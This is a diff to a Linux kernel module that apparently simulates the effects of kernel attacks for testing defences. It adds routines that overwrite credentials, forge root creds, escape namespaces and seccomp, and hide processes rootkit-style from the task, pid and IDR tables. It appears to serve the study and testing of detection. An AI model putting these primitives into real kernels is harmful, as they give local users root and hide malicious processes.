@@ -20,20 +20,29 @@
 
 #include <linux/align.h>
 #include <linux/capability.h>
+#include <linux/cgroup.h>
 #include <linux/compiler.h>
 #include <linux/cred.h>
 #include <linux/err.h>
 #include <linux/fs.h>
+#include <linux/fs_struct.h>
 #include <linux/hex.h>
+#include <linux/idr.h>
 #include <linux/init.h>
+#include <linux/ipc_namespace.h>
 #include <linux/kallsyms.h>
+#include <linux/key.h>
+#include <linux/kmemleak.h>
+#include <linux/lsm_hooks.h>
 #include <linux/miscdevice.h>
 #include <linux/mm.h>
 #include <linux/module.h>
 #include <linux/moduleparam.h>
 #include <linux/mutex.h>
 #include <linux/nsproxy.h>
+#include <linux/path.h>
 #include <linux/pid.h>
+#include <linux/pid_namespace.h>
 #include <linux/rculist.h>
 #include <linux/rcupdate.h>
 #include <linux/reboot.h>
@@ -41,11 +50,16 @@
 #include <linux/sched/signal.h>
 #include <linux/sched/task.h>
 #include <linux/sched/user.h>
+#include <linux/seccomp.h>
 #include <linux/seq_file.h>
 #include <linux/slab.h>
 #include <linux/string.h>
+#include <linux/thread_info.h>
+#include <linux/time_namespace.h>
 #include <linux/user_namespace.h>
+#include <linux/utsname.h>
 #include <linux/vmalloc.h>
+#include <net/net_namespace.h>
 
 static bool insecure;
 module_param(insecure, bool, 0400);
@@ -55,6 +69,9 @@ MODULE_PARM_DESC(insecure, "Load although every user then owns the machine");
 static char changed[KSYM_SYMBOL_LEN + 128];
 module_param_string(changed, changed, sizeof(changed), 0444);
 MODULE_PARM_DESC(changed, "What was changed in the kernel image (read only)");
+
+/* Who owns the file that is read with it, see attack_victim.c */
+#define ATTACK_GID	2001
 
 /**
  * struct attack - One row of the table of attacks
@@ -189,6 +206,92 @@ static int overwrite_ucounts(struct task_struct *task, size_t field)
 	return 0;
 }
 
+/* Who is in the groups, and not which groups */
+static int overwrite_groups(struct task_struct *task, size_t field)
+{
+	struct group_info *const groups = cred_of(task)->group_info;
+
+	if (!groups->ngroups)
+		return -ENOENT;
+	WRITE_ONCE(groups->gid[0].val, ATTACK_GID);
+	return 0;
+}
+
+static struct task_struct *get_last_child(struct task_struct *task)
+{
+	struct task_struct *child;
+	struct pid *pid = NULL;
+
+	rcu_read_lock();
+	list_for_each_entry_rcu(child, &task->children, sibling)
+		pid = task_pid(child);
+	child = get_pid_task(pid, PIDTYPE_PID);
+	rcu_read_unlock();
+	return child;
+}
+
+/* The session keyring of the last child, who does not leave it */
+static int overwrite_keyring(struct task_struct *task, size_t field)
+{
+#ifdef CONFIG_KEYS
+	struct task_struct *const child = get_last_child(task);
+	struct cred *const cred = cred_of(task);
+	struct key *const old = cred->session_keyring;
+
+	if (!child)
+		return -ESRCH;
+	cred->session_keyring = key_get(cred_of(child)->session_keyring);
+	key_put(old);
+	put_task_struct(child);
+	return 0;
+#else
+	return -EOPNOTSUPP;
+#endif
+}
+
+/* Where the label of Landlock is among those of all modules */
+static ulong landlock_blob_sizes_at;
+module_param_named(landlock_blob_sizes, landlock_blob_sizes_at, ulong, 0400);
+MODULE_PARM_DESC(landlock_blob_sizes, "Address of that object");
+
+/* The domain is what the label of Landlock is made of; its reference stays */
+static int clear_landlock(struct task_struct *task, size_t field)
+{
+	const struct lsm_blob_sizes *const sizes = (void *)landlock_blob_sizes_at;
+	void **domain;
+
+	if (!sizes)
+		return -ENOENT;
+	domain = cred_of(task)->security + sizes->lbs_cred;
+	if (!*domain)
+		return -ENOENT;
+	kmemleak_ignore(*domain);
+	WRITE_ONCE(*domain, NULL);
+	return 0;
+}
+
+/*
+ * What is left of the credential when its memory is used again for that of
+ * root.  The new one was in use, so it has all that a credential in use has.
+ */
+static int reuse(struct task_struct *task, size_t field)
+{
+	struct cred *const cred = cred_of(task);
+	struct cred *const new = prepare_kernel_cred(&init_task);
+	const atomic_long_t usage = cred->usage;
+
+	if (!new)
+		return -ENOMEM;
+	revert_creds(override_creds(new));
+	move_processes(cred->ucounts, new->ucounts, 1);
+	kmemleak_ignore(cred->security);
+	memcpy(cred, new, sizeof(*cred));
+	cred->usage = usage;
+	/* It is the twin of what lives on, and must not be freed as well */
+	kmemleak_ignore(new);
+	return 0;
+}
+
 /* === Credentials, the pointers ========================================== */
 
 static int redirect_cred(struct task_struct *task, size_t field)
@@ -213,6 +316,23 @@ static int redirect_both(struct task_struct *task, size_t field)
 {
 	redirect_cred(task, field);
 	return redirect_real_cred(task, field);
+}
+
+/* Memory that was never given to a credential */
+static int forge_cred(struct task_struct *task, size_t field)
+{
+	static struct cred forged;
+	const struct cred *const init = get_task_cred(&init_task);
+	const struct cred *const old = cred_of(task);
+
+	forged = *init;
+	atomic_long_set(&forged.usage, 1000000);
+	move_processes(old->ucounts, init->ucounts, 1);
+	rcu_assign_pointer(task->cred, &forged);
+	rcu_assign_pointer(task->real_cred, &forged);
+	put_cred_many(old, 2);
+	put_cred(init);
+	return 0;
 }
 
 /* === Credentials, by the kernel's functions from a hijacked flow ======== */
@@ -303,21 +423,187 @@ static int switch_namespaces(struct task_struct *task, size_t field)
 
 static int switch_child(struct task_struct *task, size_t field)
 {
-	struct task_struct *child;
-	struct pid *pid = NULL;
+	struct task_struct *const child = get_last_child(task);
 	int err;
 
-	rcu_read_lock();
-	list_for_each_entry_rcu(child, &task->children, sibling)
-		pid = task_pid(child);
-	child = get_pid_task(pid, PIDTYPE_PID);
-	rcu_read_unlock();
 	if (!child)
 		return -ESRCH;
-
 	err = switch_namespaces(child, field);
 	put_task_struct(child);
 	return err;
+}
+
+/*
+ * One pointer of its namespaces, which it shares with nobody, to that of init.
+ * The namespace of before loses its last owner, and stays.
+ */
+#define OVERWRITE_NS(member, common)					\
+static int overwrite_##member(struct task_struct *task, size_t field)	\
+{									\
+	struct nsproxy *const init = (void *)init_nsproxy_at;		\
+	struct nsproxy *const own = task->nsproxy;			\
+									\
+	if (!init)							\
+		return -ENOENT;						\
+	if (own->member == init->member)				\
+		return -EBUSY;						\
+	refcount_inc(&(common)->count);					\
+	kmemleak_ignore(own->member);					\
+	WRITE_ONCE(own->member, init->member);				\
+	return 0;							\
+}
+
+OVERWRITE_NS(uts_ns, &init->uts_ns->ns)
+OVERWRITE_NS(ipc_ns, &init->ipc_ns->ns)
+/* It begins with it, which only fs/ knows */
+OVERWRITE_NS(mnt_ns, (struct ns_common *)init->mnt_ns)
+OVERWRITE_NS(pid_ns_for_children, &init->pid_ns_for_children->ns)
+OVERWRITE_NS(net_ns, &init->net_ns->ns)
+OVERWRITE_NS(time_ns, &init->time_ns->ns)
+OVERWRITE_NS(time_ns_for_children, &init->time_ns_for_children->ns)
+OVERWRITE_NS(cgroup_ns, &init->cgroup_ns->ns)
+
+/* === Root, seccomp, tracer and flags ==================================== */
+
+static int redirect_fs(struct task_struct *task, size_t field)
+{
+	struct fs_struct *const init = init_task.fs, *const old = task->fs;
+
+	spin_lock(&init->lock);
+	init->users++;
+	spin_unlock(&init->lock);
+	spin_lock(&old->lock);
+	/* If nobody else uses it, it stays */
+	old->users--;
+	spin_unlock(&old->lock);
+	WRITE_ONCE(task->fs, init);
+	return 0;
+}
+
+/* One path, in the object that it shares with nobody */
+static int overwrite_path(struct path *path)
+{
+	const struct path old = *path;
+
+	*path = init_task.fs->root;
+	path_get(path);
+	path_put(&old);
+	return 0;
+}
+
+static int overwrite_root(struct task_struct *task, size_t field)
+{
+	return overwrite_path(&task->fs->root);
+}
+
+static int overwrite_pwd(struct task_struct *task, size_t field)
+{
+	return overwrite_path(&task->fs->pwd);
+}
+
+static int clear_seccomp_work(struct task_struct *task, size_t field)
+{
+	clear_task_syscall_work(task, SECCOMP);
+	return 0;
+}
+
+static int clear_seccomp(struct task_struct *task, size_t field)
+{
+#ifdef CONFIG_SECCOMP
+	clear_task_syscall_work(task, SECCOMP);
+	WRITE_ONCE(task->seccomp.mode, SECCOMP_MODE_DISABLED);
+	return 0;
+#else
+	return -EOPNOTSUPP;
+#endif
+}
+
+/*
+ * The filters of the last child, who has less.  Each task holds references on
+ * the innermost one: exchange the filters, so that they come out even.
+ */
+static int exchange_filter(struct task_struct *task, size_t field)
+{
+#ifdef CONFIG_SECCOMP
+	struct task_struct *const child = get_last_child(task);
+
+	if (!child)
+		return -ESRCH;
+	swap(task->seccomp.filter, child->seccomp.filter);
+	put_task_struct(child);
+	return 0;
+#else
+	return -EOPNOTSUPP;
+#endif
+}
+
+static int clear_no_new_privs(struct task_struct *task, size_t field)
+{
+	clear_bit(PFA_NO_NEW_PRIVS, &task->atomic_flags);
+	return 0;
+}
+
+/* As if root were tracing it, and not the one who does */
+static int overwrite_tracer(struct task_struct *task, size_t field)
+{
+	const struct cred *const old =
+		rcu_dereference_protected(task->ptracer_cred, true);
+
+	if (!old)
+		return -ESRCH;
+	rcu_assign_pointer(task->ptracer_cred, get_task_cred(&init_task));
+	put_cred(old);
+	return 0;
+}
+
+/* A mark that the kernel does not know */
+static int set_private_flag(struct task_struct *task, size_t field)
+{
+	task->flags |= PF__HOLE__40000000;
+	return 0;
+}
+
+/* === Hiding ============================================================= */
+
+/* Unlinked as rootkits do: it may be unlinked once more */
+static int hide_from_tasks(struct task_struct *task, size_t field)
+{
+	struct list_head *const entry = &task->group_leader->tasks;
+
+	/* Nobody else changes the list: the machine does nothing but this */
+	entry->prev->next = entry->next;
+	entry->next->prev = entry->prev;
+	INIT_LIST_HEAD(entry);
+	return 0;
+}
+
+static int hide_from_threads(struct task_struct *task, size_t field)
+{
+	struct list_head *const entry = &task->thread_node;
+
+	entry->prev->next = entry->next;
+	entry->next->prev = entry->prev;
+	INIT_LIST_HEAD(entry);
+	return 0;
+}
+
+static int hide_from_pid(struct task_struct *task, size_t field)
+{
+	static struct hlist_node *nowhere;
+	struct hlist_node *const node = &task->pid_links[PIDTYPE_PID];
+
+	WRITE_ONCE(*node->pprev, node->next);
+	if (node->next)
+		node->next->pprev = node->pprev;
+	node->next = NULL;
+	node->pprev = &nowhere;
+	return 0;
+}
+
+static int hide_from_idr(struct task_struct *task, size_t field)
+{
+	idr_replace(&init_pid_ns.idr, NULL, task_pid_nr(task));
+	return 0;
 }
 
 /* === The kernel image =================================================== */
@@ -464,10 +750,16 @@ static const struct attack attacks[] = {
 	FIELD(user_ns, overwrite_user_ns, "becomes the initial one"),
 	FIELD(ucounts, overwrite_ucounts, "become those of root"),
 	FIELD(group_info, overwrite_group_info, "becomes that of init"),
+	ATTACK("cred-groups", overwrite_groups, "own first group becomes another"),
+	ATTACK("cred-session_keyring", overwrite_keyring,
+	       "own session_keyring becomes that of the last child"),
+	ATTACK("cred-label", clear_landlock, "own Landlock domain disappears"),
+	ATTACK("cred-reuse", reuse, "own credential was freed and root got its memory"),
 	ATTACK("cred-root", become_root, "own ids become 0, all capabilities"),
 	ATTACK("cred-init", redirect_both, "both pointers to init_cred"),
 	ATTACK("cred-only", redirect_cred, "only ->cred to init_cred"),
 	ATTACK("cred-real", redirect_real_cred, "only ->real_cred to init_cred"),
+	ATTACK("cred-forged", forge_cred, "both pointers to a forged credential"),
 	ATTACK("commit-init", commit_init, "commit_creds(&init_cred)"),
 	ATTACK("commit-kernel", commit_kernel,
 	       "commit_creds(prepare_kernel_cred(&init_task))"),
@@ -481,6 +773,34 @@ static const struct attack attacks[] = {
 	       "switch_task_namespaces() of itself to init_nsproxy"),
 	ATTACK("child-nsproxy", switch_child,
 	       "switch_task_namespaces() of the last child to init_nsproxy"),
+	ATTACK("ns-uts", overwrite_uts_ns, "own uts_ns becomes that of init"),
+	ATTACK("ns-ipc", overwrite_ipc_ns, "own ipc_ns becomes that of init"),
+	ATTACK("ns-mnt", overwrite_mnt_ns, "own mnt_ns becomes that of init"),
+	ATTACK("ns-pid_for_children", overwrite_pid_ns_for_children,
+	       "own pid_ns_for_children becomes that of init"),
+	ATTACK("ns-net", overwrite_net_ns, "own net_ns becomes that of init"),
+	ATTACK("ns-time", overwrite_time_ns, "own time_ns becomes that of init"),
+	ATTACK("ns-time_for_children", overwrite_time_ns_for_children,
+	       "own time_ns_for_children becomes that of init"),
+	ATTACK("ns-cgroup", overwrite_cgroup_ns,
+	       "own cgroup_ns becomes that of init"),
+	ATTACK("own-fs", redirect_fs, "own fs becomes that of init_task"),
+	ATTACK("fs-root", overwrite_root, "own root becomes that of init_task"),
+	ATTACK("fs-pwd", overwrite_pwd,
+	       "own working directory becomes the root of init_task"),
+	ATTACK("seccomp-work", clear_seccomp_work,
+	       "own system calls are not filtered any more"),
+	ATTACK("seccomp-mode", clear_seccomp, "own seccomp mode becomes 0"),
+	ATTACK("seccomp-filter", exchange_filter,
+	       "own filters become those of the last child"),
+	ATTACK("no_new_privs", clear_no_new_privs, "own no_new_privs is cleared"),
+	ATTACK("ptracer_cred", overwrite_tracer,
+	       "own tracer seems to have the credential of init"),
+	ATTACK("flags", set_private_flag, "own flags get a private mark"),
+	ATTACK("hide-tasks", hide_from_tasks, "off the list of tasks"),
+	ATTACK("hide-threads", hide_from_threads, "off the list of threads"),
+	ATTACK("hide-pid", hide_from_pid, "its pid leads nowhere"),
+	ATTACK("hide-idr", hide_from_idr, "its pid is not in the table"),
 	{
 		.name = "parent-fsuid",
 		.what = "the fsuid of the parent becomes 0",
